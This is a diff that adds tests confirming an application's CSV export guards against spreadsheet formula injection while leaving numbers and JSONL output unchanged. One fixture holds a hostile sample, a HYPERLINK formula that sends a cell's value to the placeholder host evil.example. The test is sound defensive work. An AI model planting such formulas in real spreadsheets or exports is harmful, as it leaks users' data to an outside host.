@@ -247,6 +247,59 @@ async def test_ideas_events_and_releases_are_exported_since_a_date_in_either_for
     assert (json.loads(bundle) if fmt == "csv" else bundle)["period"] == "2024-H2"
 
 
+async def test_text_a_spreadsheet_would_run_goes_out_as_text_in_csv_only(
+    world: World, services: Services, database_url: str
+):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    summary = "+1-2 customers a month churn over billing surprises, says the survey."
+    await world.submit(title=title, summary=summary, organisation="@Risk Labs")
+    await world.submit(title="-15 % energy in the radio access network", organisation="Ericsson")
+
+    def export(kind: str, fmt: str) -> str:
+        result = invoke(database_url, "export", kind, "--format", fmt)
+        assert result.exit_code == 0, result.output
+        return result.stdout
+
+    sheet = parsed(await asyncio.to_thread(export, "ideas", "csv"), "csv")
+    lines = parsed(await asyncio.to_thread(export, "ideas", "jsonl"), "jsonl")
+    log = parsed(await asyncio.to_thread(export, "events", "csv"), "csv")
+
+    assert [(row["title"], row["summary"], row["organisation"]) for row in sheet] == [
+        ("'" + title, "'" + summary, "'@Risk Labs"),
+        ("'-15 % energy in the radio access network", lines[1]["summary"], "Ericsson"),
+    ]
+    assert [row["version"] for row in sheet] == ["1", "1"]  # numbers are left as they are
+    assert [(row["title"], row["organisation"]) for row in lines] == [
+        (title, "@Risk Labs"),
+        ("-15 % energy in the radio access network", "Ericsson"),
+    ]
+    # The log's export is read back by restore: its cells are the stored bytes.
+    assert json.loads(str(log[0]["data"]))["title"] == title
+
+
+def test_a_formula_is_guarded_and_plain_text_and_numbers_are_not():
+    assert [exports.guard(text) for text in ("=1+1", "+33 1", "-x", "@A1", "\tx", "\rx")] == [
+        "'=1+1",
+        "'+33 1",
+        "'-x",
+        "'@A1",
+        "'\tx",
+        "'\rx",
+    ]
+    assert [exports.guard(text) for text in ("Plain", "", "a=b", "'quoted")] == [
+        "Plain",
+        "",
+        "a=b",
+        "'quoted",
+    ]
+    assert [exports.guarded_cell(value) for value in (-12.5, -3, None, ["-a", "b"])] == [
+        "-12.5",
+        "-3",
+        "",
+        "'-a;b",
+    ]
+
+
 def test_a_since_that_is_not_a_date_is_refused(database_url: str):
     result = invoke(database_url, "export", "ideas", "--since", "last week")
 
